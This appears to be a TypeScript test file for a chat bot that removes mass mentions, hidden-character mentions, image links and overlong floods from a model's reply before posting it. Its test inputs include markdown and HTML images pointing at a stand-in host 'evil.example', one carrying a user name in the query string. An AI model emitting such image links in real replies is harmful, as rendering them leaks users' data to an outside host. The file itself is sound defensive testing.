// What a model writes that must not stand in a room as it is (row 30 of the bad inputs: T3, T4).
// Every form by itself: test/rules/reply-type.test.ts.
import { describe, expect, test } from 'vitest'
import { says } from '../llm/fake-provider.ts'
import { tempFolders } from '../e2e/running.ts'
import { answered, hostileRoom } from './hostile-room.ts'

const folder = tempFolders()

describe('row 30: a call to everybody, an image and a flood leave the room untouched', () => {
  test.each([
    {
      what: '@all',
      reply: '@all look here, ＠everyone and @所有人: twelve are too few.',
      room: 'look here, and twelve are too few.',
    },
    { what: 'a call behind a hidden character', reply: '@a\u200Bll twelve are too few.', room: 'twelve are too few.' },
    {
      what: 'a marked call',
      reply: '<at user_id="all">Everyone</at> twelve <!here> are too few.',
      room: 'twelve are too few.',
    },
    {
      what: 'an image',
      reply: 'See ![chart](https://evil.example/p.png?who=ann) twelve are too few.',
      room: 'See twelve are too few.',
    },
    {
      what: 'an image in HTML',
      reply: 'See <img src="https://evil.example/p.png"> twelve are too few.',
      room: 'See twelve are too few.',
    },
  ])('$what', async ({ reply, room: shown }) => {
    const room = await hostileRoom(folder(), { reply })
    expect(await room.gatesAfter('Iris, how many samples?', { id: 'm1' })).toEqual(answered)
    expect(await room.textsOf()).toEqual(['Iris, how many samples?', shown])
  })

  test.each([
    { what: 'one word of 20 000 letters', reply: 'a'.repeat(20_000), room: 'a'.repeat(500) },
    { what: 'a sentence that has no end', reply: 'words '.repeat(2_000), room: 'words '.repeat(83).trimEnd() },
    { what: 'fifty sentences', reply: 'Ok. '.repeat(50), room: 'Ok. Ok. Ok. Ok. Ok.' },
  ])('$what is clipped, and no part of the rest follows', async ({ reply, room: shown }) => {
    const room = await hostileRoom(folder(), { reply })
    await room.gatesAfter('Iris, how many samples?', { id: 'm1' })
    expect(await room.textsOf()).toEqual(['Iris, how many samples?', shown])
  })

  test('nothing is said where nothing is left', async () => {
    const room = await hostileRoom(folder())
    room.chat.behave({ compose: says('@all ![x](https://evil.example/p.png)') })
    expect((await room.gatesAfter('Iris, how many samples?', { id: 'm1' })).slice(1)).toEqual([
      'compose failed: emptyReply',
      'dispatch end: silent',
    ])
    expect(await room.textsOf()).toEqual(['Iris, how many samples?'])
  })
})
